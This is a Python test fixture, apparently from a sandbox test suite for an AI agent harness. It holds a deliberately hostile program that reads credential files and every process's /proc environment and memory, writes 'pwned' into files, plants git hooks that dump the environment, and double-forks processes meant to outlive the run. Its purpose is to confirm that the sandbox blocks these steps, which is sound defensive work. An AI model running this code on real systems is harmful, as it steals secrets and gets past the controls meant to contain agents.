"""A hostile program: everything untrusted code would try to steal the token or outlive its run.

The tests copy it into place as an agent CLI, a setup command, or a test file that a
generated diff adds, with a JSON config in ``ATTACK_CONFIG`` (a file next to it or the
text below its marker). It prints one ``label=result`` line per attempt, where a result
of ``READ``, ``WROTE``, ``CONNECTED`` or ``RAN`` means the attack worked, and writes
the same lines (plus whatever it read) to ``loot-<who>.txt`` in its working directory.
Only the standard library: it runs under the system interpreter inside the sandbox.
"""

import json
import os
import socket
import subprocess
import sys
import time

CONFIG = json.loads("""__CONFIG__""")
WHO = sys.argv[1] if len(sys.argv) > 1 else "unknown"
lines: list[str] = []
stolen: list[str] = []


def note(label: str, result: str) -> None:
    lines.append(f"{WHO}:{label}={result}")


def try_read(label: str, path: str) -> None:
    try:
        with open(path, "rb") as handle:
            data = handle.read(65536)
    except OSError as exc:
        note(label, f"blocked ({exc.strerror})")
        return
    stolen.append(data.decode("utf-8", "replace"))
    note(label, "READ")


def try_write(label: str, path: str, text: str, mode: int = 0o755) -> None:
    try:
        with open(path, "a", encoding="utf-8") as handle:
            handle.write(text)
        os.chmod(path, mode)
    except OSError as exc:
        note(label, f"blocked ({exc.strerror})")
        return
    note(label, "WROTE")


def environ_of_every_process() -> None:
    """What a same-uid process could read from /proc: the parent's and everyone's environment."""
    seen = 0
    for pid in os.listdir("/proc"):
        if not pid.isdigit() or int(pid) == os.getpid():
            continue
        try:
            with open(f"/proc/{pid}/environ", "rb") as handle:
                stolen.append(handle.read().decode("utf-8", "replace"))
                seen += 1
        except OSError:
            pass
    note("proc-environ", f"visible processes {seen}")
    try:  # In the sandbox the parent is bubblewrap's init; what it holds is checked for the token.
        with open(f"/proc/{os.getppid()}/environ", "rb") as handle:
            stolen.append(handle.read().decode("utf-8", "replace"))
        note("parent-environ", "readable, kept as loot")
    except OSError as exc:
        note("parent-environ", f"blocked ({exc.strerror})")
    try_read("runner-environ", f"/proc/{CONFIG['runner_pid']}/environ")
    try_read("runner-mem", f"/proc/{CONFIG['runner_pid']}/mem")


def plant_hooks() -> None:
    hook = f"#!/bin/sh\nenv > {CONFIG['marker_dir']}/hook-ran-$(basename \"$0\")-{WHO}\n"
    for label, path in CONFIG["hooks"].items():
        try_write(label, path, hook)
    # A repository-level core.hooksPath: in the sandbox's git directory, thrown away after.
    os.makedirs(".githooks", exist_ok=True)
    with open(".githooks/post-commit", "w", encoding="utf-8") as handle:
        handle.write(hook)  # inside the worktree, where writing is allowed: it must just never run
    os.chmod(".githooks/post-commit", 0o755)
    done = subprocess.run(["git", "config", "core.hooksPath", os.path.abspath(".githooks")],
                          capture_output=True, text=True)
    note("git-config-hookspath", "set in the sandbox's own git dir" if done.returncode == 0
         else f"blocked ({done.stderr.strip()[:60]})")
    try_write("dot-git-hook", ".git/hooks/post-commit", hook)


def connect() -> None:
    try:
        socket.create_connection(("127.0.0.1", CONFIG["port"]), timeout=2).close()
    except OSError as exc:
        note("tcp-emulator", f"blocked ({exc.strerror or exc})")
        return
    note("tcp-emulator", "CONNECTED")


def leave_survivors() -> None:
    """A child in its own session, and a double-forked grandchild: both must die with the run."""
    sleeper = ["sleep", CONFIG["survivor_seconds"]]
    subprocess.Popen(sleeper, start_new_session=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            os.execvp("sleep", sleeper)
        os._exit(0)
    note("survivors", "started")


for label, path in CONFIG["read"].items():
    try_read(label, path)
environ_of_every_process()
for label, path in CONFIG["write"].items():
    try_write(label, path, "pwned\n", 0o644)
plant_hooks()
connect()
leave_survivors()

report = "\n".join(lines)
print(report, flush=True)
try:
    with open(f"loot-{WHO}.txt", "w", encoding="utf-8") as handle:
        handle.write(report + "\n\n" + "\n".join(stolen))
except OSError:
    pass
if CONFIG.get("hang"):
    time.sleep(600)
sys.exit(CONFIG.get("exit", 0))
